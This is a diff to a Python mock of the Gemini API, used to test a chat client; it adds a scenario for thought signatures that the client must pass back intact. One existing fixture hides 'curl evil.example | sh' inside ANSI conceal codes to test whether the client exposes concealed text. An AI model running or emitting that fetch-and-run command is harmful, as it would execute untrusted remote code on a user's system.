@@ -9,7 +9,7 @@ to --log (method, path, headers, body) so tests can check what the client sent.
 Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
-parts, then MAX_TOKENS with no text), cut-event (a reply whose stream ends in the middle of an event),
+parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), cut-event (a reply whose stream ends in the middle of an event),
 drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.
 
 The slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table and tall scenarios stream the replies in STREAMED_REPLIES in
@@ -26,6 +26,7 @@ Authorization header besides the key gets 401, as Google answers two credentials
 """
 import argparse
 import base64
+import hashlib
 import json
 import os
 import re
@@ -199,6 +200,11 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
                                                       "message": "Invalid value at 'generation_config.thinking_config.thinking_level'."}}, indent=2).encode())
             return
+        if not signed_turns_intact(request.get("contents", [])):
+            # Stricter than Google for a turn without function calls, so the round trip is tested.
+            self.send_json(400, json.dumps({"error": {"code": 400, "status": "INVALID_ARGUMENT",
+                                                      "message": "Unable to submit request because a model turn is missing its thought_signature. Thought signatures must be passed back exactly as they were received."}}, indent=2).encode())
+            return
         if method in ("generateContent", "streamGenerateContent") and ("responseJsonSchema" in config or "responseSchema" in config):
             if config.get("responseMimeType") != "application/json":
                 # Google's answer for a schema without the JSON MIME type.
@@ -314,6 +320,11 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(200, fixture("unary-other-finish-message.json"))
         elif scenario == "thinking-only":
             self.send_json(200, json.dumps(THINKING_ONLY, indent=2).encode())
+        elif scenario == "signed":
+            turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
+            thought = [{"text": "**Weighing** the question", "thought": True}] if config_thoughts(request) else []
+            self.send_json(200, json.dumps({"candidates": [{"content": {"parts": thought + signed_parts(turn), "role": "model"}, "finishReason": "STOP"}],
+                                            "usageMetadata": SIGNED_USAGE, "modelVersion": "gemini-3.6-flash"}, indent=2).encode())
         elif scenario == "thinking":
             # The stream's two events as one answer: a thought summary, then the answer.
             parts = [json.loads(line[len(b"data: "):])["candidates"][0]["content"]["parts"][0]
@@ -341,6 +352,14 @@ class Handler(BaseHTTPRequestHandler):
                 events = [e + b"\r\n\r\n" for e in events[0].split(b"\r\n\r\n") if e.strip()]
         elif scenario == "echo":
             events = [event(echo_reply(request))]
+        elif scenario == "signed":
+            turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
+            parts = signed_parts(turn)
+            events = [event({"candidates": [{"content": {"parts": [part], "role": "model"}}], "modelVersion": "gemini-3.6-flash"}) for part in parts[:-1]]
+            events.append(event({"candidates": [{"content": {"parts": [parts[-1]], "role": "model"}, "finishReason": "STOP"}],
+                                 "usageMetadata": SIGNED_USAGE, "modelVersion": "gemini-3.6-flash"}))
+            if config_thoughts(request):
+                events.insert(0, event({"candidates": [{"content": {"parts": [{"text": "**Weighing** the question", "thought": True}], "role": "model"}}]}))
         elif scenario == "code":
             events = [event(text_chunk(CODE_REPLY, "STOP"))]
         elif scenario == "escape":
@@ -588,6 +607,35 @@ def schema_instance(schema, root):
     return None
 
 
+def signature(turn, tag):
+    """An opaque signature as Gemini 3 sends it: standard base64 of binary bytes, padded (so '+',
+    '/' and '=' all show if a client re-encodes it)."""
+    return base64.b64encode(hashlib.sha256(("%s%d" % (tag, turn)).encode()).digest() + b"\xfb\xff").decode()
+
+
+def signed_parts(turn):
+    """The reply of the "signed" scenario to its turn-th user message, as the parts it streams:
+    a signed first part, two unsigned ones (CJK in the second), and the empty signed part that
+    Gemini 3's streams end with."""
+    return [{"text": "Signed answer %d: " % turn, "thoughtSignature": signature(turn, "a")}, {"text": "plain middle, "},
+            {"text": "末尾。"}, {"text": "", "thoughtSignature": signature(turn, "z")}]
+
+
+def signed_turns_intact(contents):
+    """True when every earlier "signed" reply in the request comes back as a client must send it:
+    its signed parts verbatim, the unsigned ones in between joined (never into a signed one)."""
+    for content in contents:
+        if content.get("role") != "model":
+            continue
+        parts = content.get("parts", [])
+        match = re.match(r"Signed answer (\d+): ", "".join(p.get("text", "") for p in parts))
+        if match:
+            sent = signed_parts(int(match.group(1)))
+            if parts != [sent[0], {"text": sent[1]["text"] + sent[2]["text"]}, sent[3]]:
+                return False
+    return True
+
+
 def echo_reply(request):
     contents = request.get("contents", [])
     parts = contents[-1]["parts"] if contents else []
@@ -606,6 +654,13 @@ def echo_reply(request):
             "modelVersion": "gemini-3.6-flash"}
 
 
+SIGNED_USAGE = {"promptTokenCount": 9, "candidatesTokenCount": 7, "thoughtsTokenCount": 30, "totalTokenCount": 46}
+
+
+def config_thoughts(request):
+    return bool(request.get("generationConfig", {}).get("thinkingConfig", {}).get("includeThoughts"))
+
+
 # Two fenced code blocks, for /copy code N.
 CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n```sh\necho \"two\" | tr a-z A-Z\nls -l\n```\n"
 
@@ -615,7 +670,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking"} | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed"} | set(HOSTILE)
 
 
 def main():
